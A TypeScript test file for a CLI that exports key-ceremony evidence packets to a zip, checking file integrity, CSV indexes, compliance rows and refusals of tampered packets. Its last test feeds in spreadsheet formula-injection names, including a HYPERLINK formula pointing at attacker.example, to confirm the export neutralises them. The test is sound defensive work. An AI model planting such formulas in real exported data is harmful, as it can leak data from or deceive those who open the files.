// `officiant export` against real packets: two rehearsals of the crash drill made by the CLI, exported into one
// zip, which is opened with the system `unzip` (fflate where there is none) and read as a compliance person
// would: packets byte for byte, index.csv row by row against each journal, compliance.csv against what the
// drill script does and does not do, retention against the certificates as openssl reads them. Then the
// refusals: a tampered packet, an existing --out, a directory that is no packet.
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { unzipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../../src/evidence/export/csv.js';
import { officiant, ROOT, type CliResult } from '../../helpers/cli.js';

const base = mkdtempSync(join(tmpdir(), 'officiant-export-'));
afterAll(() => rmSync(base, { recursive: true, force: true }));
const env: NodeJS.ProcessEnv = { ...process.env, OFFICIANT_SANDBOX_ROOT: join(base, 'sandboxes') };
delete env.OFFICIANT_FAILPOINT;
const SCRIPT = join(ROOT, 'test/fixtures/crash-drill.yaml');

const a = join(base, 'a');
const b = join(base, 'b');
const made = await Promise.all([officiant(['rehearse', SCRIPT, '--out', a], { env }), officiant(['rehearse', SCRIPT, '--out', b], { env })]);
for (const [r, dir] of [[made[0], a], [made[1], b]] as const) {
  if (r.code !== 0) {
    rmSync(base, { recursive: true, force: true });
    throw new Error(`rehearsal into ${dir} failed (${r.code}): ${r.stderr}${r.stdout.slice(-2000)}`);
  }
}

const exportCli = (...args: string[]): Promise<CliResult> => officiant(['export', ...args], { env });

function readTree(root: string, rel = '', into = new Map<string, Buffer>()): Map<string, Buffer> {
  for (const e of readdirSync(join(root, rel), { withFileTypes: true })) {
    const path = rel === '' ? e.name : `${rel}/${e.name}`;
    if (e.isDirectory()) readTree(root, path, into);
    else into.set(path, readFileSync(join(root, path)));
  }
  return into;
}

const HAVE_UNZIP = spawnSync('which', ['unzip']).status === 0;
let extractions = 0;
/** Every file of the archive by path, as an outside tool extracts it. */
function extract(zip: string): Map<string, Buffer> {
  if (!HAVE_UNZIP) return new Map(Object.entries(unzipSync(readFileSync(zip))).filter(([p]) => !p.endsWith('/')).map(([p, d]) => [p, Buffer.from(d)]));
  const to = join(base, `unzipped-${++extractions}`);
  mkdirSync(to);
  const r = spawnSync('unzip', ['-q', zip, '-d', to], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`unzip ${zip} failed (${r.status}): ${r.stderr}`);
  return readTree(to);
}

/** RFC 4180 reader, independent of the writer under test: records of fields; throws on a malformed file. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= text.length) throw new Error('unterminated quoted field');
          if (text[i] === '"' && text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else if (text[i] === '"') {
            i++;
            break;
          } else field += text[i++];
        }
      } else {
        while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
          if (text[i] === '"') throw new Error(`bare quote at ${i}`);
          field += text[i++];
        }
      }
      record.push(field);
      if (text[i] === ',') {
        i++;
        continue;
      }
      if (text.startsWith('\r\n', i)) {
        i += 2;
        break;
      }
      throw new Error(`record ${records.length + 1} does not end with CRLF (at ${i}: ${JSON.stringify(text.slice(i, i + 10))})`);
    }
    records.push(record);
  }
  return records;
}

function table(text: string): Array<Record<string, string>> {
  const [header, ...rows] = parseCsv(text);
  for (const r of rows) expect(r).toHaveLength(header.length);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

interface Journal {
  id: string;
  /** The packet's folder in the archive: script id, the date it started, run id. */
  folder: string;
  entries: Array<{ seq: number; hash: string; type: string; actor: string; step?: string; data: Record<string, unknown> }>;
}
function journalOf(dir: string): Journal {
  const entries = readFileSync(join(dir, 'journal.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
  return { id: entries[0].data.ceremonyId, folder: `${entries[0].data.scriptId}_${entries[0].time.slice(0, 10)}_${entries[0].data.ceremonyId}`, entries };
}
const ja = journalOf(a);
const jb = journalOf(b);

function openssl(...args: string[]): Buffer {
  const r = spawnSync('openssl', args);
  if (r.status !== 0) throw new Error(`openssl ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

const zip = join(base, 'out', 'both.zip');
mkdirSync(dirname(zip));
// a's evidence key is pinned (compared out of band); b's is not, and is let in with --allow-unpinned.
const fingerprintOf = (dir: string) => createHash('sha256').update(openssl('x509', '-in', join(dir, 'outputs/evidence-key.cert.pem'), '-outform', 'DER')).digest('hex');
const exported = await exportCli(a, b, '--out', zip, '--trust', fingerprintOf(a), '--allow-unpinned');
const archive = existsSync(zip) ? extract(zip) : new Map<string, Buffer>();
const text = (p: string) => {
  const bytes = archive.get(p);
  if (!bytes) throw new Error(`${p} is not in the archive`);
  const s = bytes.toString('utf8');
  expect(Buffer.from(s, 'utf8').equals(bytes), `${p} is UTF-8`).toBe(true);
  return s;
};

describe('exporting two verified packets', () => {
  it('prints one line per packet and what it wrote', () => {
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.stdout.trimEnd().split('\n')).toEqual([
      `included ${a} as ${ja.folder} (verified, evidence key pinned)`,
      `included ${b} as ${jb.folder} (verified, evidence key NOT pinned)`,
      `wrote ${zip}: 2 packets, ${ja.entries.length + jb.entries.length} events`,
    ]);
  });

  it('holds every packet file byte for byte under <script-id>_<date>_<ceremony-id>/, and only the index files besides', () => {
    const expected = new Set(['index.csv', 'index.json', 'compliance.csv']);
    for (const [dir, j] of [[a, ja], [b, jb]] as const) {
      const files = readTree(dir);
      expect(files.size).toBeGreaterThan(10);
      for (const [path, bytes] of files) {
        const inZip = archive.get(`${j.folder}/${path}`);
        expect(inZip, `${j.folder}/${path}`).toBeDefined();
        expect(inZip!.equals(bytes), `${j.folder}/${path} is byte-identical`).toBe(true);
        expected.add(`${j.folder}/${path}`);
      }
    }
    expect([...archive.keys()].sort()).toEqual([...expected].sort());
  });

  it('the extracted packets still verify', async () => {
    if (!HAVE_UNZIP) return;
    const r = await officiant(['verify', join(base, 'unzipped-1', ja.folder)], { env });
    expect(r.code, r.stdout).toBe(0);
    expect(r.stdout).toMatch(/^verified, evidence key NOT PINNED: /m);
  });

  it('index.csv: RFC 4180 with a header, one row per journal entry of each packet, in journal order', () => {
    const csv = text('index.csv');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(csv)[0]).toEqual(['ceremony id', 'script id', 'seq', 'step id', 'step number', 'time', 'person', 'role', 'role title', 'action', 'journal entry', 'result', 'evidence file', 'entry hash', 'verified', 'evidence key pinned', 'rehearsal']);
    const rows = table(csv);
    expect(rows).toHaveLength(ja.entries.length + jb.entries.length);
    for (const j of [ja, jb]) {
      const mine = rows.filter((r) => r['ceremony id'] === j.id);
      expect(mine).toHaveLength(j.entries.length);
      expect(mine.map((r) => [Number(r.seq), r['entry hash']])).toEqual(j.entries.map((e) => [e.seq, e.hash]));
      for (const r of mine) {
        expect(r['script id']).toBe('crash-drill');
        expect(r.verified).toBe('true');
        expect(Number.isNaN(Date.parse(r.time))).toBe(false);
        expect(archive.has(`${j.folder}/${r['evidence file']}`), r['evidence file']).toBe(true);
      }
    }
  });

  it('a row names the person without the role suffix, the role from the check-in, the action and result', () => {
    const rows = table(text('index.csv')).filter((r) => r['ceremony id'] === ja.id);
    const bySeq = (pred: (e: Journal['entries'][number]) => boolean) => {
      const e = ja.entries.find(pred);
      expect(e).toBeDefined();
      return rows.find((r) => Number(r.seq) === e!.seq)!;
    };
    const checkIn = bySeq((e) => e.type === 'step.event' && e.data.what === 'participants');
    expect(checkIn).toMatchObject({ 'step id': 'check-in', 'step number': '1', person: 'system', role: 'system', action: 'participants listed', 'journal entry': 'step.event participants', 'evidence file': 'steps/01-check-in.pdf' });
    expect(checkIn.result).toBe('Ceremony Administrator 1 (rehearsal) as admin; Internal Witness 1 (rehearsal) as witness; Crypto Officer 1 (rehearsal) as officer; Crypto Officer 2 (rehearsal) as officer');

    const login = bySeq((e) => e.type === 'step.event' && e.data.what === 'hsm-login');
    expect(login).toMatchObject({
      'step id': 'evidence',
      'step number': '3',
      person: 'Crypto Officer 1 (rehearsal)',
      role: 'officer',
      'role title': 'Crypto Officer',
      action: 'HSM token activated with two PIN halves',
      'journal entry': 'step.event hsm-login',
      result: 'ok: Crypto Officer 1 (rehearsal) and Crypto Officer 2 (rehearsal)',
      'evidence file': 'steps/03-evidence.pdf',
    });

    const signOff = bySeq((e) => e.type === 'step.event' && e.data.what === 'sign-off' && e.step === 'close');
    expect(signOff).toMatchObject({ person: 'Internal Witness 1 (rehearsal)', role: 'witness', 'role title': 'Internal Witness', action: 'signed off the step', 'journal entry': 'step.event sign-off', result: 'yes', 'step number': '7', 'evidence file': 'steps/07-close.pdf' });

    const generated = bySeq((e) => e.type === 'result' && e.data.op === 'hsm.generate-key' && e.step === 'generate');
    expect(generated).toMatchObject({ action: 'done: generate a key in the HSM', 'journal entry': 'result hsm.generate-key', result: 'ok', person: 'system', 'evidence file': 'steps/04-generate.pdf' });

    const bag = bySeq((e) => e.type === 'step.event' && e.data.what === 'recorded');
    expect(bag).toMatchObject({ person: 'Ceremony Administrator 1 (rehearsal)', role: 'admin', result: 'new bag serial: TB-7' });

    expect(bySeq((e) => e.type === 'ceremony.sealed')).toMatchObject({ 'step id': 'ceremony', 'step number': '', action: 'evidence packet sealed', 'journal entry': 'ceremony.sealed', result: 'sealed (completed)', 'evidence file': 'journal.jsonl' });
  });

  // What the crash drill does and does not do, and so what an auditor must find.
  const EXPECTED: Array<[string, string, RegExp]> = [
    ['BR-6.1.1.1/script', 'satisfied', /recorded at start; steps ran in the script's order; 7 of 7 steps completed; completed/],
    ['BR-6.1.1.1/witness', 'missing', /^generate: no witness sign-off .*sign_off is empty/], // generate has a witness role but no sign_off
    ['BR-6.1.1.1/report', 'satisfied', /^signed ceremony report sealed at #\d+/],
    ['BR-5.2.2/split-knowledge', 'satisfied', /PIN halves held by Crypto Officer 1 \(rehearsal\) and Crypto Officer 2 \(rehearsal\)/],
    ['BR-5.2.2/multi-person-control', 'satisfied', /^2 activation\(s\), each by two people/], // init-token and one login
    ['BR-5.4.1/event-log', 'satisfied', /hash-chained, each with time, actor and type; .* 7 signed step pages$/],
    ['BR-5.4.3/retention', 'satisfied', /^retain until /],
    ['WebTrust/roles', 'satisfied', /^3 roles \(Ceremony Administrator, Internal Witness, Crypto Officer\)/],
    ['WebTrust/approval', 'missing', /no approval step \(quorum\.approve\)/],
    ['WebTrust/materials', 'missing', /lists no hardware or materials/], // the drill has no `materials:`
    ['WebTrust/steps', 'satisfied', /^7 numbered steps .* 7 completed, each with its signed page$/],
    ['WebTrust/physical-security', 'missing', /no tamper-bag or seal recorded .* before the closing step/], // no bag checked on arrival
    ['WebTrust/storage', 'satisfied', /^close: new bag serial: TB-7 \(#\d+\)$/],
    ['WebTrust/sign-off', 'satisfied', /^close: Internal Witness 1 \(rehearsal\) \(witness\): followed$/],
    ['WebTrust/deviations', 'satisfied', /^none recorded$/],
  ];

  it('compliance.csv has every requirement for each ceremony, with the status the drill script justifies', () => {
    const csv = text('compliance.csv');
    expect(parseCsv(csv)[0]).toEqual(['ceremony id', 'requirement', 'source', 'requirement text', 'status', 'evidence files', 'journal seqs', 'note', 'verified', 'evidence key pinned', 'rehearsal']);
    const rows = table(csv);
    expect(rows).toHaveLength(2 * EXPECTED.length);
    for (const j of [ja, jb]) {
      const mine = rows.filter((r) => r['ceremony id'] === j.id);
      // These are rehearsals: what would be satisfied is 'rehearsal only', never 'satisfied' for a production clause.
      expect(mine.map((r) => [r.requirement, r.status])).toEqual(EXPECTED.map(([req, status]) => [req, status === 'satisfied' ? 'rehearsal only' : status]));
      for (const [req, status, note] of EXPECTED) {
        const r = mine.find((x) => x.requirement === req)!;
        const prefix = 'rehearsal, not production evidence; would be satisfied: ';
        if (status === 'satisfied') expect(r.note.startsWith(prefix), `${req}: ${r.note}`).toBe(true);
        expect(status === 'satisfied' ? r.note.slice(prefix.length) : r.note, req).toMatch(note);
        expect(r.rehearsal).toBe('true');
        expect(r['requirement text'], req).not.toBe('');
        expect(r.verified).toBe('true');
        // Every piece of evidence named is a file of this packet and a seq of its journal.
        for (const f of r['evidence files'].split('; ').filter(Boolean)) expect(archive.has(`${j.folder}/${f}`), `${req}: ${f}`).toBe(true);
        for (const s of r['journal seqs'].split('; ').filter(Boolean)) expect(j.entries.some((e) => e.seq === Number(s)), `${req}: #${s}`).toBe(true);
      }
    }
    const at = (req: string) => rows.find((r) => r['ceremony id'] === ja.id && r.requirement === req)!;
    const seqOf = (pred: (e: Journal['entries'][number]) => boolean) => String(ja.entries.find(pred)!.seq);
    expect(at('WebTrust/storage')['journal seqs']).toBe(seqOf((e) => e.data.what === 'recorded'));
    expect(at('WebTrust/storage')['evidence files']).toBe('steps/07-close.pdf; journal.jsonl');
    expect(at('WebTrust/sign-off')['journal seqs']).toBe(seqOf((e) => e.data.what === 'sign-off' && e.step === 'close'));
    expect(at('BR-6.1.1.1/report')['journal seqs']).toBe(seqOf((e) => e.type === 'ceremony.sealed'));
    expect(at('BR-6.1.1.1/witness')['evidence files']).toBe('steps/04-generate.pdf; journal.jsonl');
    expect(at('WebTrust/deviations')['evidence files']).toBe('journal.jsonl');
  });

  it('records per ceremony a retention date of the latest certificate notAfter + 2 years (read by openssl)', () => {
    const index = JSON.parse(text('index.json'));
    const compliance = table(text('compliance.csv'));
    for (const [dir, j] of [[a, ja], [b, jb]] as const) {
      const certs = readdirSync(join(dir, 'outputs')).filter((f) => f.endsWith('.cert.pem'));
      expect(certs.sort()).toEqual(['drill-key.cert.pem', 'evidence-key.cert.pem']);
      const ends = certs.map((c) => new Date(openssl('x509', '-noout', '-enddate', '-in', join(dir, 'outputs', c)).toString().trim().replace(/^notAfter=/, '')));
      const latest = new Date(Math.max(...ends.map((d) => d.getTime())));
      const until = new Date(latest);
      until.setUTCFullYear(latest.getUTCFullYear() + 2);
      const summary = index.ceremonies.find((c: { ceremonyId: string }) => c.ceremonyId === j.id);
      expect(summary.retainUntil).toBe(until.toISOString());
      expect(compliance.find((r) => r['ceremony id'] === j.id && r.requirement === 'BR-5.4.3/retention')!.note).toContain(`retain until ${until.toISOString()}`);
    }
  });

  it('index.json: the rows and a summary per ceremony', () => {
    const index = JSON.parse(text('index.json'));
    expect(index.format).toBe('officiant-export/1');
    expect(index.events).toHaveLength(ja.entries.length + jb.entries.length);
    expect(index.compliance).toHaveLength(2 * EXPECTED.length);
    for (const [dir, j] of [[a, ja], [b, jb]] as const) {
      const der = openssl('x509', '-in', join(dir, 'outputs/evidence-key.cert.pem'), '-outform', 'DER');
      const s = index.ceremonies.find((c: { ceremonyId: string }) => c.ceremonyId === j.id);
      expect(s).toMatchObject({
        folder: j.folder,
        ceremonyId: j.id,
        scriptId: 'crash-drill',
        scriptVersion: 1,
        scriptSha256: createHash('sha256').update(readFileSync(join(dir, 'script.yaml'))).digest('hex'),
        outcome: 'completed',
        rehearsal: true,
        verified: true,
        pinned: dir === a,
        problems: [],
        evidenceKeySha256: createHash('sha256').update(der).digest('hex'),
        events: j.entries.length,
      });
    }
  });
});

describe('refusals', () => {
  const tampered = join(base, 'tampered');
  cpSync(a, tampered, { recursive: true });
  const page = join(tampered, 'steps/04-generate.pdf');
  const bytes = readFileSync(page);
  bytes[Math.floor(bytes.length / 3)] ^= 0x01;
  writeFileSync(page, bytes);

  it('a packet that does not verify is refused, named, and nothing is written', async () => {
    const out = join(base, 'out', 'refused.zip');
    const r = await exportCli(b, tampered, '--out', out);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(new RegExp(`^refused ${tampered.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: does not verify \\(\\d+ problem\\(s\\)\\)$`, 'm'));
    expect(r.stdout).toMatch(/^ {2}steps\/04-generate\.pdf: /m);
    expect(r.stdout).not.toContain(`refused ${b}`);
    expect(r.stdout.trimEnd().split('\n').pop()).toMatch(/^FAILED: 1 of 2 packet\(s\) do not verify; nothing written/);
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(join(base, 'out')).filter((f) => f.includes('refused'))).toEqual([]);
  });

  it('with --include-unverified it is included unchanged and marked in index.json, both CSVs and UNVERIFIED.txt', async () => {
    const out = join(base, 'out', 'marked.zip');
    const r = await exportCli(tampered, b, '--out', out, '--include-unverified', '--allow-unpinned');
    expect(r.code, r.stderr).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(new RegExp(`^included ${tampered.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} as ${ja.folder} \\(UNVERIFIED: \\d+ problems\\)$`));
    expect(lines[1]).toBe(`included ${b} as ${jb.folder} (verified, evidence key NOT pinned)`);
    const z = extract(out);
    expect(z.get(`${ja.folder}/steps/04-generate.pdf`)!.equals(bytes)).toBe(true);
    const marker = z.get(`${ja.folder}/UNVERIFIED.txt`)?.toString('utf8');
    expect(marker).toMatch(/^THIS PACKET DID NOT VERIFY\./);
    expect(marker).toMatch(/^- steps\/04-generate\.pdf: /m);
    expect(z.has(`${jb.folder}/UNVERIFIED.txt`)).toBe(false);
    const index = JSON.parse(z.get('index.json')!.toString('utf8'));
    const verifiedOf = (id: string) => index.ceremonies.find((c: { ceremonyId: string }) => c.ceremonyId === id).verified;
    expect([verifiedOf(ja.id), verifiedOf(jb.id)]).toEqual([false, true]);
    const rows = table(z.get('index.csv')!.toString('utf8'));
    expect(rows.filter((x) => x['ceremony id'] === ja.id)).toHaveLength(ja.entries.length);
    expect(new Set(rows.filter((x) => x['ceremony id'] === ja.id).map((x) => x.verified))).toEqual(new Set(['false']));
    expect(new Set(rows.filter((x) => x['ceremony id'] === jb.id).map((x) => x.verified))).toEqual(new Set(['true']));
    const compliance = table(z.get('compliance.csv')!.toString('utf8'));
    expect(new Set(compliance.filter((x) => x['ceremony id'] === ja.id).map((x) => x.verified))).toEqual(new Set(['false']));
  });

  it('a packet whose evidence key nobody pinned is refused, with what to compare; a --trust-file pins it', async () => {
    const out = join(base, 'out', 'unpinned.zip');
    const r = await exportCli(a, b, '--out', out, '--trust', fingerprintOf(a));
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`refused ${b}: its evidence key ${fingerprintOf(b)} is not pinned (compare it out of band, then pass --trust <sha256> or a --trust-file)`);
    expect(r.stdout.trimEnd().split('\n').pop()).toBe('FAILED: 1 of 2 packet(s) have an evidence key you did not pin; nothing written (--allow-unpinned includes them, marked)');
    expect(existsSync(out)).toBe(false);
    const trustFile = join(base, 'trusted-keys.txt');
    writeFileSync(trustFile, `# compared on the paper logs\n${fingerprintOf(a)}  drill a\n\n${fingerprintOf(b).toUpperCase()} drill b\n`);
    const pinned = await exportCli(a, b, '--out', out, '--trust-file', trustFile);
    expect(pinned.code, pinned.stdout + pinned.stderr).toBe(0);
    const rows = table(extract(out).get('compliance.csv')!.toString('utf8'));
    expect(new Set(rows.map((x) => x['evidence key pinned']))).toEqual(new Set(['true']));
  });

  it('an existing --out is refused (exit 2) and left unchanged', async () => {
    const out = join(base, 'out', 'existing.zip');
    writeFileSync(out, 'an archive someone already handed on\n');
    const r = await exportCli(a, '--out', out);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`officiant: ${out} already exists`);
    expect(readFileSync(out, 'utf8')).toBe('an archive someone already handed on\n');
  });

  it.each([
    ['an empty directory', () => mkdtempSync(join(base, 'empty-')), /is not an evidence packet: no journal\.jsonl and no manifest\.json/],
    ['a missing directory', () => join(base, 'nowhere'), /cannot read .*nowhere: no such file or directory/],
  ])('%s is bad input (exit 2), nothing written', async (_what, dirOf, message) => {
    const out = join(base, 'out', `bad-${Math.random().toString(16).slice(2)}.zip`);
    const r = await exportCli(a, dirOf(), '--out', out);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(message);
    expect(existsSync(out)).toBe(false);
  });

  it('the same ceremony twice is bad input', async () => {
    const out = join(base, 'out', 'twice.zip');
    const r = await exportCli(a, tampered, '--out', out, '--include-unverified');
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`are the same ceremony (${ja.folder})`);
    expect(existsSync(out)).toBe(false);
  });
});

describe('CSV', () => {
  it.each([
    ['plain', 'abc', 'abc'],
    ['comma', 'a,b', '"a,b"'],
    ['quote', 'say "yes"', '"say ""yes"""'],
    ['line break', 'one\r\ntwo\nthree', '"one\r\ntwo\nthree"'],
    ['empty', '', ''],
    ['UTF-8', 'Jürgen Ω', 'Jürgen Ω'],
  ])('quotes %s fields as RFC 4180 says', (_what, value, field) => {
    const csv = toCsv(['h1', 'h2'], [[value, 1]]);
    expect(csv).toBe(`h1,h2\r\n${field},1\r\n`);
    expect(parseCsv(csv)).toEqual([['h1', 'h2'], [value, '1']]);
  });
});

describe('names typed as formulas', () => {
  // People type their names at check-in; a name a spreadsheet would run must open as the text typed. The
  // rehearsal is stopped before its check-in, its simulated people renamed, and resumed; the export's CSVs are
  // then read with Python's csv module, as a spreadsheet's import reads them.
  const FORMULAS = ['=HYPERLINK("http://attacker.example/?q=1","Carol")', '@SUM(1+1)*cmd', '+1+1', '-1+1'];

  it('the CSVs carry each name with a leading apostrophe where it starts a cell: text, never a formula', async () => {
    const typed = join(base, 'typed');
    const killed = await officiant(['rehearse', SCRIPT, '--out', typed], { env: { ...env, OFFICIANT_FAILPOINT: 'journal.append#2' } });
    expect(killed.signal, killed.stderr).toBe('SIGKILL');
    const sandbox = (JSON.parse(readFileSync(join(typed, 'rehearsal.json'), 'utf8')) as { sandbox: string }).sandbox;
    const peopleFile = join(sandbox, 'people.json');
    const people = JSON.parse(readFileSync(peopleFile, 'utf8')) as { people: Record<string, string[]>; secrets: Record<string, unknown> };
    let next = 0;
    const renamed: Record<string, string> = {};
    for (const names of Object.values(people.people)) names.forEach((n, i) => (renamed[n] = names[i] = FORMULAS[next++ % FORMULAS.length]));
    people.secrets = Object.fromEntries(Object.entries(people.secrets).map(([n, s]) => [renamed[n] ?? n, s]));
    writeFileSync(peopleFile, JSON.stringify(people));
    const resumed = await officiant(['resume', typed], { env });
    expect(resumed.code, resumed.stderr).toBe(0);

    const out = join(base, 'out-typed', 'typed.zip');
    mkdirSync(dirname(out));
    const r = await exportCli(typed, '--out', out, '--allow-unpinned');
    expect(r.code, r.stderr).toBe(0);
    const files = extract(out);
    for (const name of ['index.csv', 'compliance.csv']) {
      const csv = files.get(name)?.toString('utf8') ?? '';
      const read = spawnSync('python3', ['-c', 'import csv,sys,json; print(json.dumps(list(csv.reader(sys.stdin))))'], { input: csv, encoding: 'utf8' });
      expect(read.status, read.stderr).toBe(0);
      const cells = (JSON.parse(read.stdout) as string[][]).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), name).toEqual([]);
      if (name !== 'index.csv') continue;
      for (const f of FORMULAS) expect(cells.some((c) => c.includes(f)), `${f} is in index.csv`).toBe(true);
      for (const f of FORMULAS.slice(0, 3)) expect(cells, `${f} as the person of an entry`).toContain(`'${f}`);
    }
  });
});
